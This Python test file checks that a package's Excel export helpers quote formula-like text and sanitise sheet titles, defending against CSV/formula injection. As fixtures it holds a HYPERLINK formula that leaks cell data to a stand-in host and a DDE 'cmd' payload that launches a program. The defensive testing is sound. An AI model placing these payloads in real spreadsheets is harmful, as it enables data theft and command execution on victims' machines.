"""Spreadsheet safety (OWASP "CSV injection"): user text is never written as a formula.

Unit tests of siyu_diag.core.cells, then every workbook the package writes (plan.xlsx,
kpi-sheets.xlsx, the scheme template, the questionnaire) for a client whose names are hostile.
Expected values are written out by hand.
"""

from __future__ import annotations

import csv
import datetime as dt
import shutil

import numpy as np
import openpyxl
import pytest
import yaml
from openpyxl import Workbook

from siyu_diag.core import assets
from siyu_diag.core.cells import append_row, safe_cell, safe_sheet_title, safe_text, write_cell
from siyu_diag.diagnosis.bank import QuestionBank, load_bank
from siyu_diag.incentives import export_kpi_sheets_xlsx, open_incentives, write_scheme_template
from siyu_diag.incentives.library import load_kpi_library
from siyu_diag.plan import export_plan_xlsx, open_plan
from siyu_diag.scaffold import write_questionnaire

LEAK = '=HYPERLINK("http://x?leak="&A1)'
CMD = "=cmd|' /C calc'!A0"
PLUS = "+1+1"
MINUS = "-2+3"
AT = "@SUM(A1)"
TAB = "\t=1"
HOSTILE = (LEAK, CMD, PLUS, MINUS, AT, TAB)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
#: The package writes no formula of its own into a cell: the only formulas in its workbooks are
#: the sources of drop-down lists (data validations), which are not cells.
OWN_FORMULAS: frozenset[str] = frozenset()


# ---------------------------------------------------------------- safe_text / safe_cell


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        (LEAK, '\'=HYPERLINK("http://x?leak="&A1)'),
        (CMD, "'=cmd|' /C calc'!A0"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5", "'-5"),  # text that looks like a number stays text
        ("=", "'="),
    ],
)
def test_text_that_could_start_a_formula_gets_a_quote(text, expected):
    assert safe_text(text) == expected
    assert safe_cell(text) == expected


@pytest.mark.parametrize("text", ["门店导购", "a=1", "Sales/[Q1]:*?", "1+1", " =1", "", "'=1"])
def test_harmless_text_is_unchanged(text):
    assert safe_text(text) == text


def test_characters_a_workbook_cannot_hold_are_removed_first():
    assert safe_text("\x01=1") == "'=1"
    assert safe_text("a\x07b\nc") == "ab\nc"


@pytest.mark.parametrize(
    "value", [0, 7, -5, 3.5, -0.25, 1e12, True, False, dt.date(2026, 3, 16), None]
)
def test_numbers_booleans_dates_and_empty_stay_what_they_are(value):
    out = safe_cell(value)
    assert out == value and type(out) is type(value)


def test_numpy_scalars_become_plain_numbers():
    assert safe_cell(np.float64(-1.5)) == -1.5 and type(safe_cell(np.float64(-1.5))) is float
    assert type(safe_cell(np.int64(-3))) is int
    assert safe_cell(np.bool_(True)) is True
    assert safe_cell(np.str_("=1")) == "'=1"


def test_other_objects_are_written_as_their_safe_text():
    class Odd:
        def __str__(self) -> str:
            return "=1+1"

    assert safe_cell(Odd()) == "'=1+1"


# ---------------------------------------------------------------- write_cell / append_row


def test_openpyxl_alone_would_write_a_formula():
    # the behaviour the helpers guard against
    ws = Workbook().active
    ws["A1"] = LEAK
    assert ws["A1"].data_type == "f"


def test_write_cell_types_text_as_text_and_numbers_as_numbers():
    ws = Workbook().active
    assert write_cell(ws, 1, 1, LEAK).data_type == "s"
    assert ws["A1"].value == '\'=HYPERLINK("http://x?leak="&A1)'
    assert write_cell(ws, 2, 1, "#N/A").data_type == "s"  # openpyxl would infer an error
    assert ws["A2"].value == "#N/A"
    cell = write_cell(ws, 3, 2, -2)
    assert (cell.value, cell.data_type, cell.coordinate) == (-2, "n", "B3")
    ws["C1"] = "=1+1"
    assert write_cell(ws, 1, 3, None).value is None


def test_append_row_writes_below_the_last_row(tmp_path):
    wb = Workbook()
    ws = wb.active
    append_row(ws, ["名称", "人数"])
    append_row(ws, [CMD, 4])
    append_row(ws, [PLUS, None, 2.5])
    wb.save(tmp_path / "x.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "x.xlsx").active
    values = [[c.value for c in row] for row in ws.iter_rows()]
    assert values == [
        ["名称", "人数", None],
        ["'=cmd|' /C calc'!A0", 4, None],
        ["'+1+1", None, 2.5],
    ]
    assert [c.data_type for c in ws[2]][:2] == ["s", "n"]


# ---------------------------------------------------------------- safe_sheet_title


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("Sales/[Q1]:*?", "SalesQ1"),
        ("a\\b", "ab"),
        ("门店导购", "门店导购"),
        ("abcdefghij" * 4, "abcdefghijabcdefghijabcdefghija"),
        ("私域运营" * 10, "私域运营私域运营私域运营私域运营私域运营私域运营私域运营私域运"),
        ("😀" * 20, "😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀"),  # 2 UTF-16 units each: 15 fit
        ("'Q1'", "Q1"),
        ("  ' Q1 '  ", "Q1"),
        ("a" * 30 + "'b", "a" * 30),  # the cut leaves a trailing quote, which goes too
        ("=SUM(A1)", "_=SUM(A1)"),
        ("+1", "_+1"),
        ("-x", "_-x"),
        ("@x", "_@x"),
        ("\t=1", "_=1"),
        (LEAK, '_=HYPERLINK("httpxleak="&A1)'),
        ("", "Sheet"),
        ("''", "Sheet"),
        ("///", "Sheet"),
        (None, "Sheet"),
        ("History", "History-2"),  # Excel reserves it
    ],
)
def test_sheet_titles_are_valid(name, expected):
    taken: set[str] = set()
    assert safe_sheet_title(name, taken) == expected
    assert taken == {expected}
    Workbook().active.title = expected  # openpyxl accepts it


def test_sheet_titles_are_unique_case_insensitively():
    taken = {"汇总"}
    assert safe_sheet_title("Team A", taken) == "Team A"
    assert safe_sheet_title("team a", taken) == "team a-2"
    assert safe_sheet_title("TEAM A", taken) == "TEAM A-3"
    assert safe_sheet_title("汇总", taken) == "汇总-2"
    assert taken == {"汇总", "Team A", "team a-2", "TEAM A-3", "汇总-2"}


def test_a_long_duplicate_is_shortened_to_fit_its_number():
    taken = {"a" * 31}
    assert safe_sheet_title("A" * 40, taken) == "A" * 29 + "-2"


def test_the_fallback_is_used_for_an_empty_name():
    assert safe_sheet_title("?", set(), fallback="unit") == "unit"
    assert safe_sheet_title("?", {"UNIT"}, fallback="unit") == "unit-2"


# ---------------------------------------------------------------- every workbook, end to end


def _edit_yaml(path, edit):
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    edit(data)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


def _hostile_plan(plan):
    channels, roles = plan["channels"], plan["organisation"]["roles"]
    channels["stores"]["name"] = LEAK
    channels["mini_program"]["name"] = CMD
    channels["douyin"]["name"] = PLUS
    roles["lead"]["name"] = MINUS
    roles["content"]["name"] = AT
    roles["community"]["name"] = TAB
    plan["campaigns"]["anniversary"]["name"] = LEAK
    plan["fixed_costs"]["scrm"]["name"] = CMD


UNIT_NAMES = {"ops": "Sales/[Q1]:*?", "guide": LEAK, "manager": "Team A", "lead": "TEAM A"}


def _hostile_scheme(scheme):
    scheme["name"] = AT
    for unit in scheme["units"]:
        unit["name"] = UNIT_NAMES[unit["id"]]
    scheme["awards"][0]["name"] = PLUS


def _hostile_actuals(path):
    """Units by id (their names changed) and employee ids that look like formulas."""
    with path.open(encoding="utf-8-sig", newline="") as fh:
        header, *rows = list(csv.reader(fh))
    ids = {"私域运营组": "ops", "门店导购": "guide", "店长": "manager", "私域负责人": "lead"}
    with path.open("w", encoding="utf-8", newline="") as fh:
        out = csv.writer(fh)
        out.writerow(header)
        for n, row in enumerate(rows):
            out.writerow([f"{HOSTILE[n % len(HOSTILE)]}{n}", ids[row[1]], *row[2:]])


def _hostile_library(path):
    """The bundled KPI library with follower_adds' texts made hostile."""
    library = yaml.safe_load(assets.data_path("kpis", "kpi-library-v1.yaml").read_text("utf-8"))
    kpi = next(k for k in library["kpis"] if k["id"] == "follower_adds")
    kpi["definition"]["zh"] = LEAK
    kpi["formula"]["zh"] = AT
    kpi["name"]["en"] = MINUS
    path.write_text(yaml.safe_dump(library, allow_unicode=True), encoding="utf-8")
    return path


def _hostile_bank():
    bank = load_bank().model_dump()
    bank["title"]["zh"] = CMD
    bank["items"][0]["text"]["zh"] = PLUS
    return QuestionBank.model_validate(bank)


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    """Every workbook the package writes, for the hostile copy of the xiangwei sample."""
    root = tmp_path_factory.mktemp("hostile")
    folder = root / "xiangwei"
    shutil.copytree(assets.sample_clients_dir() / "xiangwei", folder)
    _edit_yaml(folder / "client.yaml", lambda c: c.update(brand=CMD))
    _edit_yaml(folder / "plan.yaml", _hostile_plan)
    _edit_yaml(folder / "incentives.yaml", _hostile_scheme)
    _hostile_actuals(folder / "incentive-actuals.csv")
    library = _hostile_library(root / "kpis.yaml")
    out = root / "out"
    chapter = open_incentives(folder, library=library)
    assert chapter.available
    paths = {
        "plan": export_plan_xlsx(open_plan(folder), out / "plan.xlsx"),
        "kpi": export_kpi_sheets_xlsx(chapter, out / "kpi-sheets.xlsx"),
        "kpi_current": export_kpi_sheets_xlsx(chapter, out / "current.xlsx", which="current"),
        "template": write_scheme_template(out / "template.xlsx", "zh", load_kpi_library(library)),
        "template_en": write_scheme_template(out / "t-en.xlsx", "en", load_kpi_library(library)),
        "questionnaire": write_questionnaire(_hostile_bank(), out / "questionnaire.xlsx"),
    }
    assert all(p is not None and p.is_file() for p in paths.values())
    return {key: openpyxl.load_workbook(path) for key, path in paths.items()}


def _cells(wb):
    return [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]


@pytest.mark.parametrize(
    "key", ["plan", "kpi", "kpi_current", "template", "template_en", "questionnaire"]
)
def test_no_cell_is_a_formula_and_no_text_can_start_one(written, key):
    cells = _cells(written[key])
    assert len(cells) > 20
    formulas = [c.coordinate for c in cells if c.data_type == "f" and c.value not in OWN_FORMULAS]
    assert formulas == []
    risky = [
        (c.parent.title, c.coordinate, c.value)
        for c in cells
        if isinstance(c.value, str) and c.value.startswith(DANGEROUS)
    ]
    assert risky == []
    titles = written[key].sheetnames
    assert len({t.casefold() for t in titles}) == len(titles)
    assert all(0 < len(t) <= 31 and not set(t) & set("[]:*?/\\") for t in titles)


def test_plan_names_arrive_as_quoted_text_and_numbers_as_numbers(written):
    ws = written["plan"]["假设"]
    drivers = {c.value: c.row for c in ws["B"]}
    for text in (
        '\'=HYPERLINK("http://x?leak="&A1) · 月流量',
        "'=cmd|' /C calc'!A0 · 添加率",
        "'+1+1 · 获客成本",
        "'-2+3 · 人数",
        "'@SUM(A1) · 人月成本",
        "'\t=1 · 人数",
    ):
        assert text in drivers
        assert ws.cell(drivers[text], 2).data_type == "s"
    # the hostile role's headcount and monthly cost, as plan.yaml gives them: numbers
    headcount = ws.cell(drivers["'-2+3 · 人数"], 3)
    cost = ws.cell(drivers["'-2+3 · 人月成本"], 3)
    assert (headcount.value, headcount.data_type) == (1, "n")
    assert (cost.value, cost.data_type) == (22000, "n")
    headers = [c.value for c in written["plan"]["月度"][1]]
    assert '\'=HYPERLINK("http://x?leak="&A1) 新增用户（人）' in headers
    assert "'=cmd|' /C calc'!A0 营销费用（元）" in headers
    assert "'+1+1 新增用户（人）" in headers


@pytest.mark.parametrize(
    ("key", "title"), [("kpi", "建议KPI考核表"), ("kpi_current", "现行KPI考核表")]
)
def test_kpi_sheets_have_safe_titles_and_quoted_names(written, key, title):
    wb = written[key]
    assert wb.sheetnames == [
        "汇总",
        "SalesQ1",
        '_=HYPERLINK("httpxleak="&A1)',
        "Team A",
        "TEAM A-2",
    ]
    summary = wb["汇总"]
    assert summary["A1"].value == f"'=cmd|' /C calc'!A0 · {title}"
    assert [summary.cell(r, 1).value for r in range(4, 8)] == [
        "Sales/[Q1]:*?",
        '\'=HYPERLINK("http://x?leak="&A1)',
        "Team A",
        "TEAM A",
    ]
    assert [summary.cell(r, 4).value for r in range(4, 8)] == [4, 120, 38, 1]
    assert wb['_=HYPERLINK("httpxleak="&A1)']["B2"].value == '\'=HYPERLINK("http://x?leak="&A1)'
    ops = wb["SalesQ1"]
    assert ops["B2"].value == "Sales/[Q1]:*?"
    follower = next(r for r in range(1, ops.max_row + 1) if ops.cell(r, 1).value == "加粉数")
    assert ops.cell(follower, 2).value == '\'=HYPERLINK("http://x?leak="&A1)'
    assert ops.cell(follower, 3).value == "'@SUM(A1)"


def test_template_library_texts_are_quoted_and_its_lists_stay(written):
    for key, sheet, name_col in (("template", "指标库", 3), ("template_en", "Library", 2)):
        lib = written[key][sheet]
        row = next(r for r in range(2, lib.max_row + 1) if lib.cell(r, 1).value == "follower_adds")
        assert lib.cell(row, name_col).value == "'-2+3"
    lib = written["template"]["指标库"]
    assert lib.cell(row, 8).value == '\'=HYPERLINK("http://x?leak="&A1)'
    assert lib.cell(row, 9).value == "'@SUM(A1)"
    # the drop-down lists (the template's own formulas, as data validations) are untouched
    formulas = [dv.formula1 for dv in written["template"]["指标"].data_validations.dataValidation]
    assert f"'指标库'!$B$2:$B${lib.max_row}" in formulas


def test_questionnaire_texts_are_quoted_where_they_lead(written):
    wb = written["questionnaire"]
    assert wb["说明"]["A1"].value == "'=cmd|' /C calc'!A0"
    assert wb["问卷"]["D1"].value == "G01、+1+1"  # not at the start: left as it is
